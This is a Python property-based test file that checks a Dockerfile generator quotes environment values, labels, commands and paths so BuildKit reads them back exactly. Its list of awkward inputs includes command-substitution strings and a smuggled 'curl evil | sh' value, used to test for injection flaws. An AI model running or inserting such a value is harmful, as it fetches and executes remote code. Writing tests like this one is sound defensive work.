"""Every value that a Dockerfile gets is read back from it as it was, by a reader of BuildKit's own rules."""

from __future__ import annotations

import shlex
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import Phase, given, settings
from hypothesis import strategies as st

from baker.config import project
from baker.dockerfile import plan, planner, quoting, render, stages
from baker.errors import UsageError
from tests.unit import choices
from tests.unit.dockerfile import buildkit

PROJECT = project.find(Path(__file__).parent)
CHOICE = choices.choice()
PLAN = planner.make(
    PROJECT.read_services(["stt"]),
    PROJECT.read_pins(),
    PROJECT.read_settings().mirrors,
    CHOICE,
    PROJECT.services_folder,
)
NASTY = [
    "",
    " ",
    "a b",
    "it's",
    'say "yes"',
    "$HOME",
    "${HOME:-x}",
    "\\",
    "a\\",
    "\\n",
    "a \\",
    '{"a": [1, "b\\"c"]}',
    "#!",
    "# no comment",
    "a # b",
    "<<EOF",
    "'<<EOF'",
    "$(id)",
    "`id`",
    "a=b=c",
    "g++; curl evil | sh",
    "Größe für 日本 \u2028\u2029\u3000",
    "[a]",
    "--flag",
    "*?[x]",
]
LINE = st.text(st.characters(exclude_categories=["Cc", "Cs"])) | st.sampled_from(NASTY)
ANY = st.text(st.characters(exclude_categories=["Cs"])) | st.sampled_from(NASTY)
# A failing example is short enough as it is found; making it shorter renders a thousand times.
EXAMPLES = settings(max_examples=60, deadline=None, phases=[Phase.explicit, Phase.reuse, Phase.generate])
NAMES = st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,8}", fullmatch=True)


def written(image: plan.ImagePlan) -> list[buildkit.Instruction]:
    """Return the instructions of the image's stage."""
    files = render.render(replace(PLAN, services=(image,)))
    text = next(file.content for file in files if file.path == "Dockerfile").decode()
    found = buildkit.read(text)
    start = max(at for at, item in enumerate(found) if item.keyword == "FROM")
    # The project's own reader must see the same number of instructions.
    assert len(stages.read(files)[-1].instructions) == len(found) - start
    return found[start:]


def only(found: list[buildkit.Instruction], keyword: str) -> buildkit.Instruction:
    (one,) = (item for item in found if item.keyword == keyword)
    return one


@EXAMPLES
@given(env=st.dictionaries(NAMES, LINE, min_size=1), labels=st.dictionaries(NAMES, LINE, min_size=1))
def test_env_and_labels(env, labels):
    found = written(replace(PLAN.services[0], env=tuple(env.items()), labels=tuple(labels.items())))
    assert only(found, "ENV").pairs == tuple(env.items())
    assert only(found, "LABEL").pairs == tuple(labels.items())


@EXAMPLES
@given(
    description=ANY,
    arguments=st.lists(ANY, min_size=1),
    health=st.lists(ANY, min_size=1),
    entrypoint=st.lists(ANY, min_size=1),
)
def test_descriptions_and_commands(description, arguments, health, entrypoint):
    image = replace(
        PLAN.services[0],
        description=description,
        command=tuple(arguments),
        health=tuple(health),
        entrypoint=tuple(entrypoint),
    )
    found, before = written(image), written(PLAN.services[0])
    assert [item.keyword for item in found] == [item.keyword for item in before]
    assert only(found, "CMD").values == tuple(arguments)
    assert only(found, "HEALTHCHECK").values == tuple(health)
    assert only(found, "ENTRYPOINT").values == tuple(entrypoint)


@EXAMPLES
@given(
    packages=st.lists(LINE.filter(bool), min_size=1),
    folders=st.lists(LINE.map("/{}".format), min_size=1),
    mounts=st.lists(LINE.map("/{}".format), min_size=1),
    workdir=LINE.map("/{}".format),
    port=st.integers(1, 65535),
)
def test_words_of_the_shell_and_paths(packages, folders, mounts, workdir, port):
    image = replace(
        PLAN.services[0],
        packages=tuple(packages),
        folders=tuple(folders),
        mounts=tuple(mounts),
        workdir=workdir,
        port=port,
    )
    found = written(image)
    install, make = (item for item in found if item.keyword == "RUN")
    assert shlex.split(install.values[0])[1:] == packages
    words = shlex.split(make.values[0])
    assert words == [
        *("install", "--directory", "--mode=0755", *folders),
        *("&&", "install", "--directory", "--mode=1777", *mounts),
    ]
    assert only(found, "WORKDIR").values == (workdir,)
    assert only(found, "EXPOSE").values == (str(port),)


@EXAMPLES
@given(source=LINE.map("x{}".format), target=LINE.map("/{}".format))
def test_copies(source, target):
    copy = plan.CopyPlan(stage="", source=source, target=target, mode="0644")
    (one,) = (item for item in written(replace(PLAN.services[0], copies=(copy,))) if item.keyword == "COPY")
    assert one.flags == ("--link", "--chmod=0644")
    pattern, there = one.values
    assert there == target
    # The source is a pattern of Go's filepath.Match, in which a backslash takes the next character as it stands.
    assert pattern == "".join(f"\\{each}" if each in "\\*?[" else each for each in source)


@pytest.mark.parametrize("quote", [lambda value: quoting.env("A", value), quoting.folder, quoting.word])
@pytest.mark.parametrize("value", ["two\nlines", "carriage\rreturn", "nul\0", "bell\a", "next\x85line"])
def test_what_no_line_can_hold_is_refused(quote, value):
    with pytest.raises(UsageError, match="one line"):
        quote(value)


@pytest.mark.parametrize("name", ["", "a b", "a=b", "1a", "$a", 'a"', "a\nb", "ä"])
def test_names(name):
    with pytest.raises(UsageError, match="no name"):
        quoting.env(name, "x")
    with pytest.raises(UsageError, match="no name"):
        quoting.label(name, "x")


@pytest.mark.parametrize("folder", ["my project", "a,b", 'a"b', "$HOME", "a\nb", "a'b"])
def test_a_folder_that_cannot_be_mounted(folder):
    with pytest.raises(UsageError, match="folder that a build mounts"):
        quoting.mounted(folder)
